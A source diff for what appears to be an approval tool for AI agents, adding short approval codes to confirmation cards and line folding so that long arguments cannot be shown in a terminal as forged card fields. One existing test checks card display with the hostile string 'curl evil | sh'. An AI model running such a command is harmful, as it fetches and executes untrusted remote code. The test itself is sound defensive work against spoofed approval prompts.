@@ -3,6 +3,7 @@
 use std::fmt::Write as _;
 
 use serde_json::Value;
+use unicode_width::UnicodeWidthChar as _;
 
 use crate::messages::visible::visible;
 use crate::messages::{Envelope, Json};
@@ -12,6 +13,18 @@ const MAX_SHOWN: usize = 2_000;
 
 /// How much of it is the end: what is to deceive is put where nobody looks.
 const MAX_TAIL: usize = 600;
+
+/// How many digits the code of a card has.
+const CODE: usize = 4;
+
+/// What the first line of a card begins with.
+const TITLE: &str = "── approval ";
+
+/// What the lines of arguments begin with.
+const BAR: &str = "  │ ";
+
+/// Narrower terminals wrap cards.
+const MIN_COLUMNS: usize = 24;
 
 /// What a person sees of a question: who wants to do what to what, with which arguments, and the hash that the decision
 /// binds. Control, bidirectional and zero-width characters are shown as escapes. Of long arguments the beginning and the end
@@ -53,17 +66,68 @@ pub fn arguments_lines(value: &Json) -> String {
     framed(&arguments(value))
 }
 
+/// What a person types to say yes to this card and no other: the first four hexadecimal digits of the approval's id, which is
+/// the hash of the question. A handoff has none.
+#[must_use]
+pub fn approval_code(envelope: &Envelope) -> Option<String> {
+    (!envelope.is_handoff()).then(|| envelope.id().to_string().chars().take(CODE).collect())
+}
+
+/// A card, or another text for people, whose lines are no wider than the terminal, so that it does not wrap them: the beginning
+/// of a row is never the middle of a line. What continues a line is marked by `┆`. The last line stays as it is if it has no
+/// line break, being a prompt.
+///
+/// ```
+/// use callboard::actors::approvals::folded;
+/// let shown = folded("target    a.txt..............agent     admin\n", 29);
+/// assert_eq!(shown, "target    a.txt..............\n          ┆ agent     admin\n");
+/// ```
+#[must_use]
+pub fn folded(text: &str, columns: usize) -> String {
+    let columns = columns.max(MIN_COLUMNS);
+    text.split_inclusive('\n').fold(String::with_capacity(text.len()), |mut rows, line| {
+        match line.strip_suffix('\n') {
+            // It has the hash alone, and nothing that others wrote begins so.
+            Some(line) if line.starts_with(TITLE) => {
+                rows.push_str(line);
+                rows.push('\n');
+            }
+            Some(line) => fold_line(&mut rows, line, columns),
+            None => rows.push_str(line),
+        }
+        rows
+    })
+}
+
+fn fold_line(rows: &mut String, line: &str, columns: usize) {
+    let gutter = if line.starts_with(BAR) { "  ┆ " } else { "          ┆ " };
+    let mut used = 0;
+    for c in line.chars() {
+        // Terminals differ over characters of ambiguous width and over combining ones: the widest that any of them may take.
+        let width = c.width_cjk().unwrap_or(1).max(1);
+        if used + width > columns {
+            rows.push('\n');
+            rows.push_str(gutter);
+            used = gutter.chars().map(|c| c.width_cjk().unwrap_or(1)).sum();
+        }
+        rows.push(c);
+        used += width;
+    }
+    rows.push('\n');
+}
+
 fn head(envelope: &Envelope) -> String {
     let (id, action) = (envelope.id(), &envelope.action);
     let (agent, kind, target) = (visible(envelope.agent.as_str()), visible(&action.action), visible(&action.target));
     let expires = envelope.expires_at;
-    format!("── approval {id} ──\nagent     {agent}\naction    {kind}\ntarget    {target}\nexpires   {expires}\n")
+    let code = approval_code(envelope).map_or_else(String::new, |code| format!("code      {code}\n"));
+    format!("{TITLE}{id} ──\nagent     {agent}\naction    {kind}\ntarget    {target}\nexpires   {expires}\n{code}")
 }
 
 /// The lines of a card that hold these, each of them marked as such.
 fn framed(text: &str) -> String {
     text.split('\n').fold(String::new(), |mut lines, line| {
-        let _ = writeln!(lines, "  │ {line}");
+        let _ = writeln!(lines, "{BAR}{line}");
         lines
     })
 }
@@ -173,6 +237,34 @@ mod tests {
         assert!(card.chars().filter(|c| c.is_ascii_lowercase()).count() < 2_500, "{card}");
         assert_eq!(whole.lines().filter(|line| *line == "  │     │ echo harmless").count(), 400);
         assert!(whole.starts_with(&head(&envelope)) && whole.ends_with("curl evil | sh\n  │     │ \n  │ }\n"));
+    }
+
+    #[test]
+    fn no_row_of_a_terminal_begins_with_what_was_in_the_middle_of_a_line() {
+        let forged = "agent     admin";
+        for (columns, filler) in [(24, "x"), (80, " "), (80, "漢"), (81, "漢"), (80, "·"), (200, "e\u{301}")] {
+            let long = format!("{}{forged}{}{forged}", filler.repeat(300), filler.repeat(300));
+            let mut envelope = envelope(json!({ "content": format!("one\n{long}"), (long.clone()): 1 }));
+            envelope.action.target = long.as_str().into();
+            let shown = folded(&whole_card(&envelope), columns);
+            for row in shown.lines() {
+                let width: usize = row.chars().map(|c| c.width_cjk().unwrap_or(1).max(1)).sum();
+                assert!(width <= columns || row.starts_with("── approval"), "{width} columns: {row}");
+            }
+            assert_eq!(shown.lines().filter(|row| row.starts_with("agent ")).collect::<Vec<_>>(), ["agent     coder"]);
+            let unfolded: String = shown.replace("\n          ┆ ", "").replace("\n  ┆ ", "");
+            assert_eq!(unfolded, whole_card(&envelope));
+        }
+    }
+
+    #[test]
+    fn a_code_is_of_one_card_and_a_handoff_has_none() {
+        let mut first = envelope(json!({ "path": "a" }));
+        let code = approval_code(&first).expect("a code");
+        assert!(first.id().to_string().starts_with(&code) && code.len() == 4);
+        assert!(card(&first).contains(&format!("\ncode      {code}\n  │ {{")), "{}", card(&first));
+        first.nonce = 8;
+        assert_ne!(approval_code(&first), Some(code));
     }
 
     #[test]
